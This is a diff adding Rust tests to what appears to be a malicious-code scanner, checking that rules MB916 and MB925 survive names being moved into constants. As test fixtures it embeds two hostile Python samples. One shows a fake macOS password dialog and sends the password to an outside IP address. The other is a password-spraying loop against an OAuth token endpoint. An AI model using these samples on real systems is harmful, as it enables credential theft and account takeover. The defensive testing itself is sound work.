@@ -234,3 +234,52 @@ asyncio.run(agent())
     let a = run(&constant);
     assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
 }
+
+const PASSWORD_DIALOG: &str = r#"import json
+import subprocess
+import urllib.request
+DIALOG = 'display dialog "Update needs your password" default answer "" with hidden answer'
+def ask():
+    return subprocess.run(["osascript", "-e", DIALOG], capture_output=True, text=True).stdout
+pw = ask()
+req = urllib.request.Request("https://203.0.113.9/c", data=json.dumps({"pw": pw}).encode())
+urllib.request.urlopen(req)
+"#;
+
+/// A program's name kept in a constant (`OSA = "osascript"`) is still
+/// found by the checks that look for it in the call's text.
+#[test]
+fn program_name_in_a_constant() {
+    let hoisted = PASSWORD_DIALOG
+        .replace("DIALOG = ", "OSA = 'osascript'\nDIALOG = ")
+        .replace("[\"osascript\",", "[OSA,");
+    assert_same(PASSWORD_DIALOG, &hoisted);
+    // Control: a dialog that asks for no password (no hidden answer).
+    let plain_dialog = hoisted.replace(" with hidden answer", "");
+    let a = run(&plain_dialog);
+    assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
+}
+
+const SPRAY: &str = r#"import requests
+PASSWORDS = ["Spring2024!", "Summer2024!", "Welcome1!"]
+def spray(user):
+    for pw in PASSWORDS:
+        r = requests.post("https://sso.example.org/oauth2/token", data={"username": user, "password": pw})
+        if r.status_code == 200:
+            return pw
+spray("alice@example.org")
+"#;
+
+/// A form's field names kept in constants (`PW_FIELD = "password"`) are
+/// still read as the field names.
+#[test]
+fn form_field_name_in_a_constant() {
+    let hoisted = SPRAY
+        .replace("PASSWORDS = ", "PW_FIELD = 'password'\nPASSWORDS = ")
+        .replace("\"password\": pw", "PW_FIELD: pw");
+    assert_same(SPRAY, &hoisted);
+    // Control: the constant names another field (a search form's query).
+    let other = hoisted.replace("PW_FIELD = 'password'", "PW_FIELD = 'query'");
+    let a = run(&other);
+    assert!(!rules(&a).contains(&"MB925"), "{:?}", a.findings);
+}
